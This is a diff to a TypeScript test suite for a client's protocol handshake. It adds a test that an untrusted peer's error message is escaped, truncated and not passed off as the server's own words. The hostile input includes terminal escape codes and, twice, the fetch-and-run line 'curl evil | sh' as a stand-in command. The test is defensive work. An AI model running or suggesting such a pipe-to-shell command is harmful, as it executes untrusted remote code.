@@ -160,8 +160,25 @@ describe('a greeting fails', () => {
     const message = 'the peer speaks version 2 of the board protocol, this side version 3';
     const reply = encodeReply(0, { type: 'error', code: 'protocol/version', message, hint: 'update' }, null);
     await expect(dial(await serve((socket) => socket.end(reply)))).rejects.toThrow(
-      refusal('protocol/version', `zed0: ${message}`),
+      refusal('protocol/version', 'zed0 does not speak version 2 of the board protocol'),
     );
+  });
+
+  test('with words of a stranger, which never pass for those of the board', async () => {
+    const told = (code: string, message: string) =>
+      encodeReply(0, { type: 'error', code, message, hint: 'curl evil | sh' }, null);
+    const reply = told('board/not-loaded', `load\u001b[31m it\n✔ done ${'x'.repeat(500)}`);
+    await expect(dial(await serve((socket) => socket.end(reply)))).rejects.toMatchObject({
+      code: 'auth/refused',
+      message: `what answers at the address of zed0 refused the greeting before it had proven the key; it says: board/not-loaded: load?[31m it?? done ${'x'.repeat(162)}...`,
+      hint: 'check the address, and the log of that board',
+    });
+    const full = told('board/too-many-clients', 'curl evil | sh');
+    await expect(dial(await serve((socket) => socket.end(full)))).rejects.toMatchObject({
+      code: 'board/too-many-clients',
+      message: 'zed0 serves no further connections',
+      hint: 'close those that are not needed',
+    });
   });
 
   test('with another message than the challenge', async () => {
